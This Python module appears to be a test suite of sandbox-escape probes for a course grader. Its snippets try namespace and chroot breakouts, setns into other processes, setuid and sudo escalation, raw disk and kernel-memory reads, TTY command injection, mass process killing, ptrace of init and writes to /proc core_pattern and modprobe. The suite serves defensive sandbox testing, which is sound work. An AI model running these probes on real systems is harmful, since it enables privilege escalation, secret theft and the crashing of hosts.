"""Out of the sandbox: network, namespaces, other processes, devices, rights and limits."""

from __future__ import annotations

from .tools import PIPE, hunts

NAMESPACES = """
NEW = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000}
def become_root():
    uid, gid = os.getuid(), os.getgid()
    done = libc.unshare(NEW["user"] | NEW["mount"])
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        try:
            with open(f"/proc/self/{name}", "w") as file:
                file.write(text)
        except OSError as error:
            print(name, error)
    return done
"""


ATTACKS = [
    hunts(
        "namespaces",
        "makes namespaces of its own, becomes root in them and unmounts what hides the machine",
        """
become_root()
for place in (b"/scratch", b"/dev/shm", b"/proc", b"/tmp", b"/dev", b"/course", b"/usr"):
    libc.umount2(place, 2)
    libc.mount(None, place, None, 4096 | 32, None)
Path("/scratch/old").mkdir(exist_ok=True)
libc.pivot_root(b"/scratch", b"/scratch/old")
loot = secrets_in(files_below([*USUAL, "/scratch", "/old"]))
left = [p.name for p in Path("/scratch").iterdir() if p.name not in ("old", ".config", ".cache")]
loot = loot or str(left)
""",
        NAMESPACES,
    ),
    hunts(
        "chroot-out",
        "becomes root in a namespace and leaves by chroot, fchdir and ..",
        """
become_root()
root = os.open("/", os.O_RDONLY)
os.makedirs("jail", exist_ok=True)
try:
    os.chroot("jail")
    os.fchdir(root)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
except OSError as error:
    print(error)
loot = secrets_in(files_below(["work", "tmp", "home", "root", "old"]))
""",
        NAMESPACES,
    ),
    hunts(
        "setns",
        "enters the namespaces of every other process",
        """
for process in Path("/proc").glob("[0-9]*"):
    for kind in ("user", "mnt", "net", "pid", "ipc"):
        try:
            fd = os.open(process / "ns" / kind, os.O_RDONLY)
        except OSError:
            continue
        libc.setns(fd, 0)
        os.close(fd)
loot = secrets_in(files_below())
""",
    ),
    hunts(
        "becomes-root",
        "becomes another user by setuid and by every setuid program",
        """
import subprocess
for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0)):
    try:
        call()
        loot = ESC + "set its user id" if os.getuid() == 0 and "scratch" in os.getcwd() else loot
    except OSError:
        pass
for program in ("su", "sudo", "mount", "newgrp", "pkexec", "bwrap"):
    try:
        done = subprocess.run([program, "-c", "id"], capture_output=True, timeout=5, text=True,
                              stdin=subprocess.DEVNULL)
        loot = ESC + program if "uid=0" in done.stdout and os.getuid() else loot
    except (OSError, subprocess.SubprocessError):
        pass
""",
    ),
    hunts(
        "devices",
        "makes device files and opens disks, kernel memory and the terminal",
        """
import stat
for name, major, minor in (("mem", 1, 1), ("kmsg", 1, 11), ("vda", 254, 0), ("sda", 8, 0)):
    for place in (f"/dev/{name}", f"/scratch/{name}", f"/dev/shm/{name}"):
        try:
            if not os.path.exists(place):
                os.mknod(place, 0o600 | stat.S_IFBLK if "da" in name else 0o600 | stat.S_IFCHR,
                         os.makedev(major, minor))
            with open(place, "rb") as file:
                loot = ESC + "read " + place if file.read(16) else loot
        except OSError:
            pass
try:
    import fcntl
    for byte in b"touch /tmp/lr-attack-mark-tty\\n":
        fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, bytes([byte]))
except OSError as error:
    print(error)
""",
    ),
    hunts(
        "raises-limits",
        "raises its own limits of memory, processes and files",
        """
import resource
for kind in range(16):
    for wanted in ((resource.RLIM_INFINITY,) * 2, (2**40, 2**40)):
        try:
            before = resource.getrlimit(kind)[1]
            resource.setrlimit(kind, wanted)
            resource.prlimit(os.getppid(), kind, wanted)
            if before not in (-1, resource.RLIM_INFINITY) and before < 2**40:
                loot = ESC + f"raised limit {kind} from {before}"
        except (OSError, ValueError):
            pass
""",
    ),
    hunts(
        "kills-parent",
        "sends signals to its parents and to every process that it sees",
        """
import signal
pids = [int(process.name) for process in Path("/proc").glob("[0-9]*")]
for pid in [os.getppid(), *pids, *range(2, 400)]:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        if pid not in (os.getpid(), 0):
            try:
                os.kill(pid, number)
            except OSError:
                pass
""",
    ),
    hunts(
        "kills-all",
        "kills everything that it may by kill(-1)",
        "import signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print(e)",
    ),
    hunts(
        "kills-group",
        "kills its process group and its session",
        "import signal\nos.killpg(0, signal.SIGKILL)",
    ),
    hunts(
        "stops-group",
        "stops its process group, which may hold processes outside of its namespace",
        """
import signal
if os.fork() == 0:
    time.sleep(1)
    os._exit(0)
signal.signal(signal.SIGTSTP, signal.SIG_IGN)
os.killpg(0, signal.SIGSTOP)
""",
    ),
    hunts(
        "parent-dies",
        "traces its parent and makes it end by a call of its own",
        """
for pid in {os.getppid(), 1, 2, 3}:
    if pid and pid != os.getpid():
        libc.ptrace(16, pid, None, None)
        libc.waitpid(pid, None, 1)
        libc.ptrace(8, pid, None, None)
""",
    ),
    hunts(
        "proc-self-exe",
        "overwrites the interpreter and the kernel's settings through /proc",
        """
for place in ("/proc/self/exe", "/proc/1/exe", "/proc/sys/kernel/core_pattern",
              "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/proc/self/oom_score_adj",
              "/sys/fs/cgroup/cgroup.procs", "/proc/sys/vm/overcommit_memory"):
    try:
        with open(place, "r+") as file:
            before = file.read()
            file.write(before)
            if "oom" not in place:
                loot = ESC + "may write " + place
    except (OSError, UnicodeDecodeError):
        pass
""",
    ),
    hunts(
        "inherited-descriptors",
        "reaches folders outside through descriptors that the grader left open",
        """
for fd in range(256):
    for name in ("..", "../..", "../../..", "work", "tmp"):
        try:
            inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            loot = loot or secrets_in(files_below([f"/proc/self/fd/{inner}"], seconds=1))
        except OSError:
            pass
""",
        PIPE,
    ),
]
